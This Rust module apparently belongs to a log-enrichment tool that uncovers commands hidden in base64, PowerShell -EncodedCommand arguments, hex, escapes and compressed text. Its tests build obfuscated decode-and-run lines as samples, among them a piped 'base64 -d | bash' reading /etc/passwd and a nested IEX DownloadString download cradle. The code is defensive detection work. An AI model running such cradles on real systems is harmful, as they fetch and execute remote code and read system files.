//! What command lines and scripts hide: base64, hexadecimal digits, escapes, compressed text.
//!
//! ```text
//! powershell -nop -enc dwBoAG8AYQBtAGkA              the argument of an abbreviation of `-EncodedCommand`
//! … [Convert]::FromBase64String('H4sIAAAA…') …       words of a text that speaks of base64 (also compressed)
//! echo 6964 | xxd -r -p | sh; printf '\x69\x64'      hexadecimal digits where somebody decodes them, escapes
//! ```
//!
//! Only what decodes to *text* counts, and of that only what a program would decode: an argument of an option that
//! takes an encoded command, or any long word if the text speaks of decoding. What is found is looked into again, three
//! levels deep. Findings come in the order in which they stand, each followed by those inside it, divided by line feeds.
//!
//! *Cost*: linear. Every byte of a text belongs to one word at most, each level is at most three quarters of the one
//! around it, [`LONGEST`] bounds what comes out and [`MOST_UNPACKED`] what is unpacked on the way. Texts in which nothing can be
//! hidden are searched once for a handful of words.

use std::io::Read;
use std::sync::OnceLock;

use aho_corasick::AhoCorasick;
use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Levels of encoding that are taken off.
const DEEPEST: usize = 3;
/// Longer texts are looked at this far: no system takes a command line of that length, and a script comes in pieces.
const MOST_READ: usize = 256 << 10;
/// All findings together.
const LONGEST: usize = 64 << 10;
/// All that is unpacked, text or not, …
const MOST_UNPACKED: usize = 4 * LONGEST;
/// … and what every attempt counts for, since it costs even if nothing comes out.
const ATTEMPT: usize = 4 << 10;
/// Words of base64 that an option takes are at least so long (two letters of UTF-16), …
const SHORTEST_ARGUMENT: usize = 8;
/// … and others, lest a name be one.
const SHORTEST_WORD: usize = 16;
/// Digits of a hexadecimal word.
const SHORTEST_HEX: usize = 8;
/// Escapes in a row.
const SHORTEST_ESCAPES: usize = 4;
const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const BASE64: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);

/// What a text speaks of, by which it shows that something in it is to be decoded.
const SIGNS: &[(&str, Sign)] = &[
    ("base64", Sign::Base64),
    ("b64", Sign::Base64),
    ("atob(", Sign::Base64),
    ("xxd", Sign::Hex),
    ("fromhex", Sign::Hex),
    ("unhexlify", Sign::Hex),
    ("hex2bin", Sign::Hex),
    ("\\x", Sign::Escapes),
    ("deflate", Sign::Deflate),
    // Options that may be `-EncodedCommand`: after `-`, `/` and the dashes that PowerShell takes for one.
    ("-e", Sign::Option),
    ("/e", Sign::Option),
    ("\u{2013}e", Sign::Option),
    ("\u{2014}e", Sign::Option),
    ("\u{2015}e", Sign::Option),
    // The same, marked as no syntax for cmd.
    ("-^e", Sign::Option),
];

#[derive(Clone, Copy, PartialEq)]
enum Sign {
    Base64,
    Hex,
    Escapes,
    Deflate,
    Option,
}

/// Which signs a text has.
#[derive(Clone, Copy, Default)]
struct Signs {
    base64: bool,
    hex: bool,
    escapes: bool,
    deflate: bool,
    option: bool,
}

impl Signs {
    fn of(text: &str) -> Self {
        static MACHINE: OnceLock<AhoCorasick> = OnceLock::new();
        let machine = MACHINE.get_or_init(|| {
            AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(SIGNS.iter().map(|(sign, _)| sign))
                .expect("so few signs make no automaton that is too large")
        });
        let mut signs = Signs::default();
        for found in machine.find_iter(text) {
            match SIGNS[found.pattern().as_usize()].1 {
                Sign::Base64 => signs.base64 = true,
                Sign::Hex => signs.hex = true,
                Sign::Escapes => signs.escapes = true,
                Sign::Deflate => signs.deflate = true,
                Sign::Option => signs.option = true,
            }
        }
        signs
    }

    fn any(self) -> bool {
        self.base64 || self.hex || self.escapes || self.option
    }
}

/// What is hidden in `text`; `None` if nothing is.
///
/// ```
/// use borzoi_parsers::enrich::decoded;
/// assert_eq!(decoded("powershell -nop -e dwBoAG8AYQBtAGkA").as_deref(), Some("whoami"));
/// assert_eq!(decoded("echo d2hvYW1pIC9hbGwgICAg | base64 -d | sh").as_deref(), Some("whoami /all    "));
/// assert_eq!(decoded("grep -e pattern file"), None);
/// ```
pub fn decoded(text: &str) -> Option<String> {
    let mut findings = Findings {
        text: String::new(),
        unpack: MOST_UNPACKED,
    };
    findings.look_into(&text[..text.floor_char_boundary(MOST_READ)], DEEPEST);
    (!findings.text.is_empty()).then_some(findings.text)
}

/// What has been found in a text.
struct Findings {
    text: String,
    /// How many bytes may still be unpacked, whatever becomes of them.
    unpack: usize,
}

impl Findings {
    fn look_into(&mut self, text: &str, levels: usize) {
        let signs = Signs::of(text);
        if levels == 0 || !signs.any() {
            return;
        }
        let bytes = text.as_bytes();
        let mut at = 0;
        while at < bytes.len() && self.text.len() < LONGEST {
            if signs.escapes && bytes[at] == b'\\' {
                let (end, hidden) = escapes(bytes, at);
                self.take(hidden, levels);
                at = end;
                continue;
            }
            if !is_base64(bytes[at]) {
                at += 1;
                continue;
            }
            let start = at;
            at += bytes[at..].iter().take_while(|&&b| is_base64(b)).count();
            let word = &text[start..at];
            let hidden = self.hidden(word, &text[..start], signs);
            self.take(hidden, levels);
        }
    }

    /// The text that `word` encodes, behind `before` in a text with these signs.
    fn hidden(&mut self, word: &str, before: &str, signs: Signs) -> Option<String> {
        if signs.option && word.len() >= SHORTEST_ARGUMENT && is_argument(before) {
            return wide(&from_base64(word)?);
        }
        let hex = (signs.hex && word.len() >= SHORTEST_HEX).then(|| from_hex(word));
        if let Some(Some(hidden)) = hex {
            return Some(hidden);
        }
        match signs.base64 && word.len() >= SHORTEST_WORD {
            true => self.readable(from_base64(word)?, signs),
            false => None,
        }
    }

    /// Adds a finding, and what is hidden in it.
    fn take(&mut self, hidden: Option<String>, levels: usize) {
        let room = LONGEST.saturating_sub(self.text.len() + 1);
        let Some(hidden) = hidden.filter(|_| room > 0) else {
            return;
        };
        if !self.text.is_empty() {
            self.text.push('\n');
        }
        self.text.push_str(&hidden[..hidden.floor_char_boundary(room)]);
        self.look_into(&hidden, levels - 1);
    }

    /// Text in whatever form it is in.
    fn readable(&mut self, hidden: Vec<u8>, signs: Signs) -> Option<String> {
        let packed = match hidden.as_slice() {
            [0x1f, 0x8b, ..] => self.unpacked(&mut flate2::read::GzDecoder::new(hidden.as_slice())),
            [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
                self.unpacked(&mut flate2::read::ZlibDecoder::new(hidden.as_slice()))
            }
            _ => None,
        };
        if let Some(text) = packed.or_else(|| wide(&hidden)) {
            return Some(text);
        }
        if signs.deflate
            && let Some(text) = self.unpacked(&mut flate2::read::DeflateDecoder::new(hidden.as_slice()))
        {
            return Some(text);
        }
        plain(hidden)
    }

    fn unpacked(&mut self, reader: &mut dyn Read) -> Option<String> {
        let mut text = Vec::new();
        if self.unpack < ATTEMPT {
            return None;
        }
        // What a log has cut unpacks up to the cut.
        let _ = reader
            .take(self.unpack.min(LONGEST) as u64)
            .read_to_end(&mut text);
        self.unpack = self.unpack.saturating_sub(text.len().max(ATTEMPT));
        wide(&text).or_else(|| plain(text))
    }
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// Whether what stands before an argument is an option that takes an encoded command: any beginning of
/// `-EncodedCommand` or `-EncodedArguments`, `-ec`, `-ea`, with quotes and marks of cmd as they come.
fn is_argument(before: &str) -> bool {
    let is_between = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '^' | '`' | ':');
    let rest = before.trim_end_matches(is_between);
    if rest.len() == before.len() {
        return false;
    }
    let mut name = String::new();
    for c in rest.chars().rev() {
        match c {
            '-' | '/' | '\u{2013}' | '\u{2014}' | '\u{2015}' => {
                let name: String = name.chars().rev().collect();
                return !name.is_empty()
                    && ("encodedcommand".starts_with(&name)
                        || "encodedarguments".starts_with(&name)
                        || name == "ec"
                        || name == "ea");
            }
            '^' | '`' | '"' | '\'' => {}
            c if c.is_ascii_alphabetic() && name.len() < 16 => name.push(c.to_ascii_lowercase()),
            _ => return false,
        }
    }
    false
}

/// The bytes that a word of base64 means; a log may have cut it.
fn from_base64(word: &str) -> Option<Vec<u8>> {
    let whole = word.len() - usize::from(word.len() % 4 == 1);
    BASE64.decode(&word.as_bytes()[..whole]).ok()
}

/// The text that hexadecimal digits spell.
fn from_hex(word: &str) -> Option<String> {
    let digit = |byte: u8| char::from(byte).to_digit(16);
    let bytes: Option<Vec<u8>> = word
        .as_bytes()
        .chunks_exact(2)
        .map(|pair| u8::try_from(digit(pair[0])? * 16 + digit(pair[1])?).ok())
        .collect();
    let bytes = bytes.filter(|_| word.len().is_multiple_of(2))?;
    wide(&bytes).or_else(|| plain(bytes))
}

/// The text that a run of `\x41` from `at` on spells, and where it ends.
fn escapes(bytes: &[u8], at: usize) -> (usize, Option<String>) {
    let digit = |at: usize| bytes.get(at).and_then(|&byte| char::from(byte).to_digit(16));
    let mut spelled = Vec::new();
    let mut end = at;
    while bytes.get(end) == Some(&b'\\') && bytes.get(end + 1) == Some(&b'x') {
        let (Some(high), Some(low)) = (digit(end + 2), digit(end + 3)) else {
            break;
        };
        spelled.push((high * 16 + low) as u8);
        end += 4;
    }
    match spelled.len() >= SHORTEST_ESCAPES {
        true => (end, plain(spelled)),
        false => (end.max(at + 1), None),
    }
}

/// Text in UTF-16, little-endian, most of it ASCII; a log may have cut it.
fn wide(bytes: &[u8]) -> Option<String> {
    let bytes = bytes.strip_prefix(&[0xff, 0xfe]).unwrap_or(bytes);
    let units = bytes
        .chunks_exact(2)
        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
    let (total, narrow) = units.clone().fold((0, 0), |(total, narrow), unit| {
        (total + 1, narrow + usize::from((9..127).contains(&unit)))
    });
    if total < 2 || narrow * 2 < total {
        return None;
    }
    let text: String = char::decode_utf16(units).collect::<Result<_, _>>().ok()?;
    is_text(&text).then_some(text)
}

/// Text in UTF-8, most of it ASCII.
fn plain(bytes: Vec<u8>) -> Option<String> {
    let text = match String::from_utf8(bytes) {
        Ok(text) => text,
        // Cut inside a character.
        Err(error) if error.utf8_error().error_len().is_none() => {
            let whole = error.utf8_error().valid_up_to();
            let mut bytes = error.into_bytes();
            bytes.truncate(whole);
            String::from_utf8(bytes).ok()?
        }
        Err(_) => return None,
    };
    let ascii = text.bytes().filter(u8::is_ascii).count();
    (text.len() >= 2 && ascii * 2 >= text.len() && is_text(&text)).then_some(text)
}

fn is_text(text: &str) -> bool {
    !text
        .chars()
        .any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n') || c == '\u{fffd}')
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn wide_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        BASE64.encode(bytes)
    }

    #[test]
    fn every_abbreviation_of_the_option() {
        let hidden = wide_base64("Get-Process | Stop-Process");
        for option in [
            "-e",
            "-E",
            "-ec",
            "-ea",
            "-en",
            "-enc",
            "-ENC",
            "-encod",
            "-EncodedCommand",
            "-encodedarguments",
            "/e",
            "/enc",
            "\u{2013}enc",
            "\u{2014}e",
            "\u{2015}EncodedCommand",
            "-^e^n^c",
            "-en`c",
            "\"-enc\"",
        ] {
            let line = format!("powershell.exe -nop -w hidden {option} {hidden}");
            assert_eq!(
                decoded(&line).as_deref(),
                Some("Get-Process | Stop-Process"),
                "{option}"
            );
        }
        for option in ["-encx", "-x", "enc", "-f", "-e1", "--x-enc-", "-nce"] {
            assert_eq!(decoded(&format!("tool {option} {hidden}")), None, "{option}");
        }
        assert_eq!(
            decoded(&format!("cmd /c powershell -e \"{hidden}\"")).as_deref(),
            Some("Get-Process | Stop-Process")
        );
        // Cut by the log.
        let cut = decoded(&format!("powershell -e {}", &hidden[..hidden.len() - 5]));
        assert_eq!(cut.as_deref(), Some("Get-Process | Stop-Proces"));
    }

    #[test]
    fn literals_where_somebody_decodes() {
        let hidden = BASE64.encode("id; uname -a; cat /etc/passwd");
        for line in [
            format!("bash -c \"echo {hidden} | base64 -d | bash\""),
            format!("python3 -c \"import base64;exec(base64.b64decode('{hidden}'))\""),
            format!("$x = '{hidden}'; [Convert]::FromBase64String($x)"),
            format!("node -e \"eval(atob('{hidden}'))\""),
        ] {
            assert_eq!(
                decoded(&line).as_deref(),
                Some("id; uname -a; cat /etc/passwd"),
                "{line}"
            );
        }
        // Nobody decodes it here.
        assert_eq!(decoded(&format!("curl -d {hidden} https://example.org/")), None);
        // Paths and names are words of base64, but no text.
        let names = "base64 /usr/share/applications/defaultbrowser > /tmp/somethingelse";
        assert_eq!(decoded(names), None);
    }

    #[test]
    fn hexadecimal_digits_and_escapes() {
        assert_eq!(
            decoded("echo 77686f616d69 | xxd -r -p | sh").as_deref(),
            Some("whoami")
        );
        assert_eq!(
            decoded("python -c \"exec(bytes.fromhex('696d706f7274206f73'))\"").as_deref(),
            Some("import os")
        );
        assert_eq!(
            decoded(r"printf '\x77\x68\x6f\x61\x6d\x69' | sh").as_deref(),
            Some("whoami")
        );
        assert_eq!(decoded(r"printf '\x77\x68'"), None, "too few to tell");
        assert_eq!(decoded(r"type C:\xfiles\x12 \x \xzz"), None);
        assert_eq!(decoded("xxd deadbeefdeadbeef"), None, "no text");
    }

    #[test]
    fn levels_and_compressed_text() {
        let inner = wide_base64("IEX (New-Object Net.WebClient).DownloadString('https://example.org/a')");
        let middle = wide_base64(&format!("powershell -enc {inner}"));
        let found = decoded(&format!("powershell -enc {middle}")).unwrap();
        let lines: Vec<&str> = found.lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[1].ends_with("DownloadString('https://example.org/a')"));

        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gzip.write_all(b"Invoke-Something -Quietly").unwrap();
        let packed = BASE64.encode(gzip.finish().unwrap());
        assert!(packed.starts_with("H4sI"));
        let line = format!("[IO.Compression.GzipStream]::new([Convert]::FromBase64String('{packed}'))");
        assert_eq!(decoded(&line).as_deref(), Some("Invoke-Something -Quietly"));
        let mut raw = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        raw.write_all(b"Invoke-Something -Quietly -Twice").unwrap();
        let packed = BASE64.encode(raw.finish().unwrap());
        let line = format!("IO.Compression.DeflateStream([Convert]::FromBase64String('{packed}'))");
        assert_eq!(
            decoded(&line).as_deref(),
            Some("Invoke-Something -Quietly -Twice")
        );
    }

    #[test]
    fn what_comes_out_is_bounded() {
        // A bomb: some megabytes of blanks in a few kilobytes.
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gzip.write_all(&vec![b' '; 8 << 20]).unwrap();
        let packed = BASE64.encode(gzip.finish().unwrap());
        let line = format!("FromBase64String('{packed}') FromBase64String('{packed}')");
        assert!(decoded(&line).unwrap().len() <= LONGEST);
        let far = format!(
            "{}FromBase64String('{}')",
            " ".repeat(MOST_READ),
            BASE64.encode("whoami /all /fo")
        );
        assert_eq!(decoded(&far), None);
        // One level more than are taken off.
        let mut text = "whoami".to_owned();
        for _ in 0..=DEEPEST {
            text = format!("powershell -e {}", wide_base64(&text));
        }
        assert_eq!(decoded(&text).unwrap().lines().count(), DEEPEST);
        assert!(!decoded(&text).unwrap().contains("whoami"));
    }

    proptest::proptest! {
        #[test]
        fn what_is_encoded_is_found(script in "[ -~]{4,200}", option in 0usize..14) {
            let option = &"encodedcommand"[..=option];
            let line = format!("powershell.exe -NoProfile -{option} {}", wide_base64(&script));
            let found = decoded(&line).unwrap();
            proptest::prop_assert_eq!(&found[..script.len()], script.as_str());
        }

        #[test]
        fn literals_are_found(script in "[ -~]{13,200}") {
            let line = format!("echo '{}' | base64 --decode | sh", BASE64.encode(&script));
            let found = decoded(&line).unwrap();
            proptest::prop_assert!(found.contains(&script), "{}", found);
        }

        #[test]
        fn any_text_is_survived(text in "\\PC{0,200}") {
            let _ = decoded(&text);
            let _ = decoded(&format!("base64 xxd deflate -e {text} \\x{text}"));
        }

        #[test]
        fn any_bytes_are_survived(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..300)) {
            let word = BASE64.encode(&bytes);
            let _ = decoded(&format!("deflate FromBase64String('{word}') -enc {word}"));
        }
    }
}
